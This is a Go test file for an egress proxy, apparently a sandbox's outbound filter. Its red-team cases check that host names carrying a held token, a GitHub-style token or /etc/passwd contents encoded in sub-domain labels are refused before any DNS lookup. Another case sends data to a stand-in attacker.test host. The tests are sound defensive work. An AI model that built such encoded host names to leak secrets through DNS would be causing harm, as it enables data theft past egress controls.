package egress

import (
	"context"
	"encoding/base32"
	"encoding/hex"
	"fmt"
	"net"
	"strings"
	"sync"
	"testing"
)

// Red team: the host name itself carries data. Resolving a name is a DNS
// query that leaves the bottle with the name in it, so a name that carries
// a secret, looks encoded, or has no route is refused before anything
// resolves it. Every case counts the resolver's lookups.

// countingResolver resolves every *.example.com name to loopback and
// counts each lookup by name.
type countingResolver struct {
	mu    sync.Mutex
	names map[string]int
}

func (c *countingResolver) LookupIPAddr(_ context.Context, host string) ([]net.IPAddr, error) {
	c.mu.Lock()
	c.names[host]++
	c.mu.Unlock()
	if strings.HasSuffix(host, ".example.com") {
		return []net.IPAddr{{IP: net.ParseIP("127.0.0.1")}}, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

func (c *countingResolver) lookups() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	n := 0
	for _, v := range c.names {
		n += v
	}
	return n
}

const hostPolicy = `egress:
  routes:
    - host: "*.example.com"
    - host: up.example.com
      auth: {scheme: Bearer, token_ref: UP_TOKEN}
`

func chunkLabels(s string, n int) string {
	var parts []string
	for len(s) > n {
		parts = append(parts, s[:n])
		s = s[n:]
	}
	return strings.Join(append(parts, s), ".")
}

// TestRedTeamHostNameExfiltration: the held token or other data encoded
// into sub-domains of a wildcard route, and names with no route, sent as
// CONNECT and as absolute-form requests. Before, the wildcard route
// resolved each name (the DNS query carried the data) and forwarded.
func TestRedTeamHostNameExfiltration(t *testing.T) {
	up := newUpstream(t, true)
	res := &countingResolver{names: map[string]int{}}
	p := startProxy(t, up, hostPolicy, func(c *Config) { c.Resolver = res })
	passwd := []byte("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")
	tokHex := hex.EncodeToString([]byte(heldToken))
	cases := []struct{ name, host, code string }{
		{"token hex in labels", chunkLabels(tokHex, 36) + ".x.example.com", "dlp"},
		{"token upper hex", strings.ToUpper(chunkLabels(tokHex, 24)) + ".example.com", "dlp"},
		{"token base32", strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(heldToken)), "=")) + ".example.com", "dlp"},
		{"token as sent", heldToken + ".example.com", "dlp"},
		{"github token", "ghp_k3xq7z2mfw4bnyv5ra9tc6hd8pj0ls1euq2w.example.com", "dlp"},
		{"passwd hex", chunkLabels(hex.EncodeToString(passwd)[:150], 50) + ".example.com", "host-name"},
		{"passwd base32", chunkLabels(strings.ToLower(base32.StdEncoding.EncodeToString(passwd))[:120], 40) + ".example.com", "host-name"},
		{"deep chain", "a.b.c.d.e.f.g.h.i.j.example.com", "host-name"},
		{"no route", "files.attacker.test", "no-route"},
		{"no route, data", chunkLabels(tokHex, 36) + ".attacker.test", "dlp"},
	}
	for _, c := range cases {
		t.Run("CONNECT "+c.name, func(t *testing.T) {
			before := res.lookups()
			resp := redTeamConnect(t, p, c.host+":"+up.port)
			resp.Body.Close()
			if got := resp.Header.Get(RefusalHeader); resp.StatusCode != 403 || got != c.code {
				t.Errorf("CONNECT %s: %d %q, want 403 %q", c.host, resp.StatusCode, got, c.code)
			}
			if n := res.lookups() - before; n != 0 {
				t.Errorf("%d DNS lookups left for %s", n, c.host)
			}
		})
		t.Run("absolute "+c.name, func(t *testing.T) {
			before := res.lookups()
			st, code, body, err := do(t, p.client(t), newReq(t, "GET", "http://"+c.host+":"+up.port+"/", nil))
			if err != nil || st != 403 || code != c.code {
				t.Errorf("GET http://%s/: %d %q %v\n%s", c.host, st, code, err, body)
			}
			if n := res.lookups() - before; n != 0 {
				t.Errorf("%d DNS lookups left for %s", n, c.host)
			}
		})
	}
	if up.seen.count() != 0 {
		t.Errorf("the upstream received %d requests", up.seen.count())
	}
	logs := p.logText()
	for _, v := range []string{heldToken, tokHex, strings.ToUpper(tokHex[:24])} {
		if strings.Contains(logs, v) {
			t.Errorf("the log repeats the held token (%.8s...)", v)
		}
	}
	// The wall refuses names, not the route: an ordinary sub-domain is
	// resolved once and reaches the upstream.
	before := res.lookups()
	st, code, body, err := do(t, p.client(t), newReq(t, "GET", "https://objects.example.com:"+up.port+"/", nil))
	if err != nil || st != 200 {
		t.Fatalf("ordinary sub-domain: %d %q %v\n%s", st, code, err, body)
	}
	if n := res.lookups() - before; n != 1 {
		t.Errorf("ordinary sub-domain: %d lookups, want 1", n)
	}
}

// TestRedTeamHostHeaderCarriesSecret: the tunnel's name is clean, the
// Host header inside it carries the token. Refused as a mismatch; the
// name is never resolved.
func TestRedTeamHostHeaderCarriesSecret(t *testing.T) {
	up := newUpstream(t, true)
	res := &countingResolver{names: map[string]int{}}
	p := startProxy(t, up, hostPolicy, func(c *Config) { c.Resolver = res })
	tc := redTeamTunnel(t, p, "up.example.com:"+up.port, "up.example.com")
	evil := chunkLabels(hex.EncodeToString([]byte(heldToken)), 36) + ".example.com"
	got := redTeamSend(t, tc, fmt.Sprintf("GET /x HTTP/1.1\r\nHost: %s\r\n\r\n", evil), 1)
	if strings.Join(got, ",") != "403 host-mismatch" {
		t.Errorf("responses %q, want 403 host-mismatch", got)
	}
	if n := res.lookups(); n != 0 {
		t.Errorf("%d DNS lookups", n)
	}
}
